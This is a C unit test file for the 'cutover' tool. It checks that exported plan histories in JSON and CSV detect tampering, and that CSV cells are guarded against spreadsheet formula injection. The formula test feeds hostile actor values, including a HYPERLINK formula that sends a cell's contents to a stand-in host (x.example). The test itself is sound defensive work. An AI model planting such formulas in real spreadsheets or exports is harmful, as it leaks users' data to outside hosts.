/* test_export: a plan's history exported as JSON and CSV (web/export.c)
 * verifies offline (web/export_verify.c), and any edit, removal,
 * reordering or cut tail of it fails naming the first bad event — on a
 * real SQLite file whose chain two plans share; and `cutover history
 * --verify FILE` says the same. */

#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "cm.h"
#include "export.h"
#include "export_verify.h"
#include "pt.h"
#include "store.h"
#include "store_admit.h"

#define REMOVED	102	/* as the demo: one row folded on the page */

static char dir[PATH_MAX], db[PATH_MAX + 16];

static const char plan_a[] =
    "name: exporta\n"
    PT_BROKER
    "old:\n"
    "  queues: { match: '^exporta\\.old\\.' }\n"
    "ladder:\n"
    "  prefix: exporta\n"
    "  unit: 1s\n"
    "  levels: 6\n"
    "  destinations: [exporta.dest]\n"
    "canary:\n"
    "  max_lateness: 3s\n"
    "flag:\n"
    "  kind: unleash\n"
    "  url: http://127.0.0.1:4242\n"
    "  project: default\n"
    "  environment: development\n"
    "  feature: exporta\n"
    "  token: env:UNLEASH_TOKEN\n"
    "steps: [measure_horizon, declare_ladder, verify_ladder, canary,"
    " { step: flip, gate: true }, watch, { step: remove_old, gate: true }]\n";

struct fixture {
	struct store *s;
	int64_t a, b;
	json_t *doc;		/* plan a's export */
	char *json, *csv;
	size_t json_len, csv_len;
};

static void
event(struct store *s, int64_t plan, int64_t ts, const char *actor, const char *kind,
    const char *details)
{
	char err[512];

	if (store_append_event(s, plan, ts, actor, kind, details, NULL, err, sizeof(err)))
		fail_msg("append: %s", err);
}

/* Two plans whose events interleave: a's steps, b's submission between
 * them, a's 102 removals, and b's events after a's last. */
static int
setup(void **state)
{
	static struct fixture f;
	struct plan_errors errs = { 0 };
	char err[512], name[64], *b_text, details[128];
	int64_t t = 1764600000123;

	memset(&f, 0, sizeof(f));
	snprintf(dir, sizeof(dir), "/tmp/cutover-test-export-XXXXXX");
	if (mkdtemp(dir) == NULL)
		return -1;
	snprintf(db, sizeof(db), "%s/t.db", dir);
	if (store_open(db, &f.s, err, sizeof(err)) != 0 ||
	    store_plan_submit(f.s, "a.yaml", plan_a, strlen(plan_a), "alice", 0, &f.a, &errs,
	    err, sizeof(err)) != 0)
		fail_msg("setup: %s", errs.n ? errs.v[0].message : err);
	event(f.s, f.a, t++, "engine", "step.started", "{\"step\":1,\"kind\":\"measure_horizon\"}");
	b_text = strdup(plan_a);
	memcpy(strstr(b_text, "exporta"), "exportb", 7);
	if (store_plan_submit(f.s, "b.yaml", b_text, strlen(b_text), "bob", 0, &f.b, &errs,
	    err, sizeof(err)) != 0)
		fail_msg("setup b: %s", errs.n ? errs.v[0].message : err);
	free(b_text);
	event(f.s, f.a, t++, "engine", "step.succeeded", "{\"step\":1,\"kind\":\"measure_horizon\"}");
	event(f.s, f.a, t++, "engine", "step.waiting_approval", "{\"step\":2,\"kind\":\"remove_old\"}");
	event(f.s, f.a, t++, "carol", "step.approved", "{\"step\":2,\"kind\":\"remove_old\",\"comment\":\"a, \\\"quoted\\\"\\nline\"}");
	event(f.s, f.a, t++, "engine", "step.started", "{\"step\":2,\"kind\":\"remove_old\"}");
	for (int i = 0; i < REMOVED; i++) {
		snprintf(name, sizeof(name), "exporta.old.%ds", i);
		snprintf(details, sizeof(details), "{\"name\":\"%s\"}", name);
		event(f.s, f.a, t++, "engine", "old.queue_removed", details);
		if (i == 50)
			event(f.s, f.b, t++, "engine", "step.started", "{\"step\":1,\"kind\":\"measure_horizon\"}");
	}
	event(f.s, f.a, t++, "engine", "step.succeeded", "{\"step\":2,\"kind\":\"remove_old\"}");
	event(f.s, f.a, t++, "engine", "plan.succeeded", "{}");
	event(f.s, f.b, t++, "(none)", "request.denied", "{\"status\":401}");
	if (export_build(f.s, f.a, &f.doc, err, sizeof(err)) != 0 ||
	    export_csv(f.doc, &f.csv, &f.csv_len, err, sizeof(err)) != 0)
		fail_msg("export: %s", err);
	f.json = json_dumps(f.doc, JSON_INDENT(1) | JSON_PRESERVE_ORDER);
	f.json_len = strlen(f.json);
	*state = &f;
	return 0;
}

static int
teardown(void **state)
{
	struct fixture *f = *state;
	char cmd[PATH_MAX + 16];

	if (f == NULL)
		return 0;
	store_close(f->s);
	json_decref(f->doc);
	free(f->json);
	free(f->csv);
	snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
	return system(cmd) == 0 ? 0 : -1;
}

/* Verifies TEXT, RES filled: 0 when it verifies, 1 when not (a test
 * helper: the assertions read as export_verify once did). */
static int
verify(const char *text, size_t len, struct export_check *res)
{
	char err[512];
	int r = export_verify(text, len, res, err, sizeof(err));

	if (r < 0)
		fail_msg("verify: %s", err);
	return res->verified ? 0 : 1;
}

/* DOC (a copy the caller changed) as JSON, verified. */
static int
verify_doc(json_t *doc, struct export_check *res)
{
	char *t = json_dumps(doc, JSON_COMPACT | JSON_PRESERVE_ORDER);
	int r = verify(t, strlen(t), res);

	free(t);
	json_decref(doc);
	return r;
}

/* The index in the export's events of event ID. */
static size_t
at_id(const json_t *doc, int64_t id)
{
	const json_t *e;
	size_t i;

	json_array_foreach(json_object_get(doc, "events"), i, e)
		if (json_integer_value(json_object_get(e, "id")) == id)
			return i;
	fail_msg("no event %lld in the export", (long long)id);
	return 0;
}

static void
test_both_verify(void **state)
{
	struct fixture *f = *state;
	struct export_check c;

	assert_int_equal(verify(f->json, f->json_len, &c), 0);
	assert_string_equal(c.format, "json");
	assert_string_equal(c.plan_name, "exporta");
	/* submitted, 5 step events, the removals, 2 after them */
	assert_int_equal(c.plan_events, 1 + 5 + REMOVED + 2);
	assert_int_equal(c.links, 3);	/* b: submitted, a step, the denial */
	assert_int_equal(c.head_id, 1 + 5 + REMOVED + 2 + 3);
	assert_int_equal(verify(f->csv, f->csv_len, &c), 0);
	assert_string_equal(c.format, "csv");
	assert_int_equal(c.plan_events, 1 + 5 + REMOVED + 2);
	assert_int_equal(c.links, 3);
	/* the YAML is in both, and the CSV's first line is the header */
	assert_non_null(strstr(f->json, "exporta.dest"));
	assert_int_equal(strncmp(f->csv, EXPORT_CSV_HEADER "\r\n",
	    strlen(EXPORT_CSV_HEADER) + 2), 0);
	assert_non_null(strstr(f->csv, "\nplan,"));
}

static void
test_steps_derived(void **state)
{
	struct fixture *f = *state;
	const json_t *evs = json_object_get(f->doc, "events"), *e;
	size_t i;
	int removals_in_2 = 0;

	json_array_foreach(evs, i, e) {
		const char *k = json_string_value(json_object_get(e, "kind"));

		if (k != NULL && strcmp(k, "old.queue_removed") == 0 &&
		    json_integer_value(json_object_get(e, "step")) == 2)
			removals_in_2++;
		if (k != NULL && strncmp(k, "plan.", 5) == 0)
			assert_true(json_is_null(json_object_get(e, "step")));
	}
	assert_int_equal(removals_in_2, REMOVED);
	assert_string_equal(json_string_value(json_object_get(json_array_get(evs, 1),
	    "time_utc")), "2025-12-01T14:40:00.123Z");
}

static void
test_json_edited(void **state)
{
	/* One member of one event changed; the export names that event, and
	 * where it can, what was changed. */
	static const struct {
		int64_t id;
		const char *member, *value;	/* value: JSON text */
		const char *reason;		/* NULL: any reason */
	} edits[] = {
		{ 40, "details_json", "\"{\\\"name\\\":\\\"exporta.old.x\\\"}\"", "edited" },
		{ 7, "actor", "\"mallory\"", NULL },
		{ 9, "time_utc", "\"2025-12-01T14:40:00.000Z\"", "time_utc" },
		{ 20, "step", "1", NULL },
	};
	struct fixture *f = *state;
	struct export_check c;
	json_t *d, *e;

	for (size_t i = 0; i < sizeof(edits) / sizeof(edits[0]); i++) {
		d = json_deep_copy(f->doc);
		e = json_array_get(json_object_get(d, "events"), at_id(d, edits[i].id));
		json_object_set_new(e, edits[i].member, json_loads(edits[i].value,
		    JSON_DECODE_ANY, NULL));
		if (verify_doc(d, &c) != 1)
			fail_msg("event %lld with %s %s verified", (long long)edits[i].id,
			    edits[i].member, edits[i].value);
		assert_int_equal(c.bad_id, edits[i].id);
		if (edits[i].reason != NULL && strstr(c.reason, edits[i].reason) == NULL)
			fail_msg("event %lld with %s %s: the reason \"%s\" does not say \"%s\"",
			    (long long)edits[i].id, edits[i].member, edits[i].value, c.reason,
			    edits[i].reason);
	}

	d = json_deep_copy(f->doc);
	json_object_set_new(json_object_get(d, "plan"), "yaml", json_string("name: x\n"));
	assert_int_equal(verify_doc(d, &c), 1);
	assert_non_null(strstr(c.reason, "YAML"));
}

static void
test_json_removed_reordered_cut(void **state)
{
	struct fixture *f = *state;
	struct export_check c;
	json_t *d = json_deep_copy(f->doc), *evs = json_object_get(d, "events"), *e;
	size_t n = json_array_size(json_object_get(f->doc, "events"));

	json_array_remove(evs, at_id(d, 30));		/* one of the plan's */
	assert_int_equal(verify_doc(d, &c), 1);
	assert_int_equal(c.bad_id, 30);
	assert_non_null(strstr(c.reason, "removed"));

	d = json_deep_copy(f->doc);			/* a link */
	json_array_remove(json_object_get(d, "events"), at_id(d, 3));
	assert_int_equal(verify_doc(d, &c), 1);
	assert_int_equal(c.bad_id, 3);

	d = json_deep_copy(f->doc);			/* two swapped */
	evs = json_object_get(d, "events");
	e = json_incref(json_array_get(evs, 10));
	json_array_remove(evs, 10);
	json_array_insert_new(evs, 11, e);
	assert_int_equal(verify_doc(d, &c), 1);
	assert_non_null(strstr(c.reason, "reordered"));

	d = json_deep_copy(f->doc);			/* the tail cut */
	evs = json_object_get(d, "events");
	json_array_remove(evs, n - 1);
	json_array_remove(evs, n - 2);
	assert_int_equal(verify_doc(d, &c), 1);
	assert_int_equal(c.bad_id, (int64_t)n - 1);
	assert_non_null(strstr(c.reason, "truncated"));

	d = json_deep_copy(f->doc);			/* the start cut */
	json_array_remove(json_object_get(d, "events"), 0);
	assert_int_equal(verify_doc(d, &c), 1);
	assert_non_null(strstr(c.reason, "start"));

	d = json_deep_copy(f->doc);			/* the head's count */
	json_object_set_new(json_object_get(d, "head"), "events", json_integer(1000));
	assert_int_equal(verify_doc(d, &c), 1);
}

/* F's CSV with line LINE (1-based) replaced by WITH (NULL: removed), or
 * swapped with the next when SWAP. */
static char *
csv_edit(const struct fixture *f, int line, const char *with, int swap)
{
	char *out = malloc(f->csv_len + 4096), *o = out;
	const char *p = f->csv, *lines[4096];
	size_t lens[4096];
	int n = 0;

	/* lines by CRLF: fields hold bare LF only */
	while (*p != '\0' && n < 4096) {
		const char *e = strstr(p, "\r\n");

		lines[n] = p;
		lens[n++] = (size_t)(e - p) + 2;
		p = e + 2;
	}
	for (int i = 0; i < n; i++) {
		int k = i;

		if (swap && i + 1 == line)
			k = i + 1;
		else if (swap && i == line)
			k = i - 1;
		if (i + 1 == line && !swap) {
			if (with != NULL)
				o += sprintf(o, "%s\r\n", with);
			continue;
		}
		memcpy(o, lines[k], lens[k]);
		o += lens[k];
	}
	*o = '\0';
	return out;
}

/* The CSV record (one CRLF line) of event ID, copied. */
static char *
csv_line_of(const struct fixture *f, int64_t id, int *line)
{
	char want[40];
	const char *p = f->csv;
	int n = 1;

	snprintf(want, sizeof(want), "event,%lld,", (long long)id);
	for (;; n++) {
		const char *e = strstr(p, "\r\n");

		if (e == NULL)
			fail_msg("no event %lld in the CSV", (long long)id);
		if (strncmp(p, want, strlen(want)) == 0) {
			*line = n;
			return strndup(p, (size_t)(e - p));
		}
		p = e + 2;
	}
}

/* The CSV with event ID's row removed (SWAP 0) or swapped with the next
 * (SWAP 1) must fail to verify at event BAD_ID, and say REASON (NULL: any
 * reason). */
static void
expect_row_moved(const struct fixture *f, int64_t id, int swap, int64_t bad_id,
    const char *reason)
{
	struct export_check c;
	int line;
	char *l = csv_line_of(f, id, &line);
	char *t = csv_edit(f, line, NULL, swap);

	if (verify(t, strlen(t), &c) != 1)
		fail_msg("the CSV verified with event %lld's row %s", (long long)id,
		    swap ? "swapped with the next" : "removed");
	assert_int_equal(c.bad_id, bad_id);
	if (reason != NULL && strstr(c.reason, reason) == NULL)
		fail_msg("event %lld's row %s: the reason \"%s\" does not say \"%s\"",
		    (long long)id, swap ? "swapped" : "removed", c.reason, reason);
	free(t);
	free(l);
}

static void
test_csv_tampered(void **state)
{
	struct fixture *f = *state;
	struct export_check c;
	char *t, *l, *x;
	int line;

	l = csv_line_of(f, 60, &line);
	x = strstr(l, "exporta.old.");
	x[12] = x[12] == '9' ? '8' : '9';		/* one byte of a removal's name */
	t = csv_edit(f, line, l, 0);
	assert_int_equal(verify(t, strlen(t), &c), 1);
	assert_int_equal(c.bad_id, 60);
	{
		long phys = 1;	/* the line in an editor: the YAML spans many */
		const char *q = strstr(f->csv, "event,60,");

		for (const char *p = f->csv; p < q; p++)
			phys += *p == '\n';
		assert_int_equal(c.line, phys);
	}
	free(t);
	free(l);

	expect_row_moved(f, 61, 0, 61, NULL);			/* a row removed */
	expect_row_moved(f, 62, 1, 63, "reordered");		/* two rows swapped */

	l = csv_line_of(f, 6, &line);			/* the quoted comment */
	assert_non_null(strstr(l, "\"\"quoted\\\"\""));
	free(l);

	/* the tail cut: the head row kept, the last row (b's denial, a link) gone */
	{
		int64_t n = json_integer_value(json_object_get(json_object_get(f->doc,
		    "head"), "last_id"));
		int records = 0;

		for (const char *p = f->csv; (p = strstr(p, "\r\n")) != NULL; p += 2)
			records++;
		t = csv_edit(f, records - 1, NULL, 0);
		assert_int_equal(verify(t, strlen(t), &c), 1);
		assert_int_equal(c.bad_id, n);
		assert_non_null(strstr(c.reason, "truncated"));
		free(t);
	}
	/* the head row gone */
	{
		int n = 0;

		for (const char *p = f->csv; (p = strstr(p, "\r\n")) != NULL; p += 2)
			n++;
		t = csv_edit(f, n, NULL, 0);
		assert_int_equal(verify(t, strlen(t), &c), 1);
		assert_non_null(strstr(c.reason, "head row is missing"));
		free(t);
	}
	/* not an export at all */
	assert_int_equal(verify("a,b\r\n", 5, &c), 1);
	assert_int_equal(verify("{\"x\":1}", 7, &c), 1);
	assert_int_equal(verify("{\"x\":", 5, &c), 1);
}

/* Runs `cutover history --verify PATH`: its exit status, stdout in OUT. */
static int
cli_verify(const char *path, char *out, size_t outlen)
{
	char cmd[PATH_MAX * 2];
	FILE *p;
	size_t n;
	int st;

	snprintf(cmd, sizeof(cmd), "'%s' history --verify '%s'", getenv("CUTOVER_BINARY"),
	    path);
	p = popen(cmd, "r");
	assert_non_null(p);
	n = fread(out, 1, outlen - 1, p);
	out[n] = '\0';
	st = pclose(p);
	return WIFEXITED(st) ? WEXITSTATUS(st) : -1;
}

static void
test_cli(void **state)
{
	struct fixture *f = *state;
	char path[PATH_MAX + 32], out[2048], *t, *l;
	FILE *w;
	int line;

	if (getenv("CUTOVER_BINARY") == NULL)
		fail_msg("CUTOVER_BINARY is not set (ctest sets it)");
	snprintf(path, sizeof(path), "%s/a.csv", dir);
	w = fopen(path, "wb");
	fwrite(f->csv, 1, f->csv_len, w);
	fclose(w);
	assert_int_equal(cli_verify(path, out, sizeof(out)), 0);
	assert_non_null(strstr(out, "verifies: plan 'exporta'"));
	l = csv_line_of(f, 50, &line);
	t = csv_edit(f, line, NULL, 0);
	w = fopen(path, "wb");
	fputs(t, w);
	fclose(w);
	assert_int_equal(cli_verify(path, out, sizeof(out)), 1);
	assert_non_null(strstr(out, "does NOT verify: event 50"));
	free(t);
	free(l);
}

/* Whether a cell of the CSV TEXT (LEN bytes) begins, once unquoted,
 * with one of the characters a spreadsheet takes for a formula. */
static bool
csv_has_formula_cell(const char *text, size_t len)
{
	bool start = true, quoted = false;

	for (size_t i = 0; i < len; i++) {
		char ch = text[i];

		if (start) {
			start = false;
			if (ch == '"') {
				quoted = true;
				if (i + 1 < len && text[i + 1] != '\0' &&
				    strchr("=+-@\t\r", text[i + 1]) != NULL)
					return true;
				continue;
			}
			if (ch != '\0' && strchr("=+-@\t", ch) != NULL)
				return true;
		}
		if (quoted) {
			if (ch == '"' && i + 1 < len && text[i + 1] == '"')
				i++;
			else if (ch == '"')
				quoted = false;
			continue;
		}
		if (ch == ',' || ch == '\n')
			start = true;
	}
	return false;
}

/* Cells a spreadsheet would run as formulas (=, +, -, @, a tab or CR
 * first) are written with a leading quote, and so is a cell that begins
 * with a quote itself; the offline check takes exactly that quote off
 * again, so the hashes still verify — also through the CLI. */
static void
test_csv_formula_cells(void **state)
{
	static const char *const actors[] = {
		"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3",
		"@SUM(1,2)", "'quoted", "''twice", "'=both", "\tcmd", "\rcr", "plain",
	};
	struct plan_errors errs = { 0 };
	struct store *s = NULL;
	struct export_check c;
	json_t *doc = NULL;
	char err[512], path[PATH_MAX + 32], out[2048], *yaml, *csv = NULL;
	size_t len = 0, n = sizeof(actors) / sizeof(actors[0]);
	int64_t id, t = 1764600000123;
	FILE *w;

	(void)state;
	snprintf(path, sizeof(path), "%s/formula.db", dir);
	/* A plan starting with YAML's document marker begins with '-'. */
	yaml = malloc(strlen(plan_a) + 5);
	assert_non_null(yaml);
	snprintf(yaml, strlen(plan_a) + 5, "---\n%s", plan_a);
	memcpy(strstr(yaml, "exporta"), "exportf", 7);
	if (store_open(path, &s, err, sizeof(err)) != 0 ||
	    store_plan_submit(s, "f.yaml", yaml, strlen(yaml), "-alice", 0, &id, &errs, err,
	    sizeof(err)) != 0)
		fail_msg("formula setup: %s", errs.n ? errs.v[0].message : err);
	for (size_t i = 0; i < n; i++)
		event(s, id, t++, actors[i], i % 2 ? "+kind" : "=kind", "{\"comment\":\"x\"}");
	if (export_build(s, id, &doc, err, sizeof(err)) != 0 ||
	    export_csv(doc, &csv, &len, err, sizeof(err)) != 0)
		fail_msg("export: %s", err);
	assert_false(csv_has_formula_cell(csv, len));
	assert_non_null(strstr(csv, ",'=kind,"));
	assert_non_null(strstr(csv, ",'''twice,"));
	assert_non_null(strstr(csv, ",plain,"));
	assert_int_equal(verify(csv, len, &c), 0);
	assert_string_equal(c.format, "csv");
	assert_int_equal(c.plan_events, 1 + (int64_t)n);
	/* The JSON export carries the values as they are. */
	free(csv);
	csv = json_dumps(doc, JSON_COMPACT | JSON_PRESERVE_ORDER);
	assert_non_null(strstr(csv, "\"actor\":\"''twice\""));
	assert_int_equal(verify(csv, strlen(csv), &c), 0);
	free(csv);
	csv = NULL;
	if (export_csv(doc, &csv, &len, err, sizeof(err)) != 0)
		fail_msg("export: %s", err);
	if (getenv("CUTOVER_BINARY") != NULL) {
		snprintf(path, sizeof(path), "%s/formula.csv", dir);
		w = fopen(path, "wb");
		assert_non_null(w);
		fwrite(csv, 1, len, w);
		fclose(w);
		assert_int_equal(cli_verify(path, out, sizeof(out)), 0);
	}
	free(csv);
	free(yaml);
	json_decref(doc);
	store_close(s);
}

CM_MAIN(setup, teardown,
	cmocka_unit_test(test_both_verify),
	cmocka_unit_test(test_steps_derived),
	cmocka_unit_test(test_json_edited),
	cmocka_unit_test(test_json_removed_reordered_cut),
	cmocka_unit_test(test_csv_tampered),
	cmocka_unit_test(test_cli),
	cmocka_unit_test(test_csv_formula_cells))
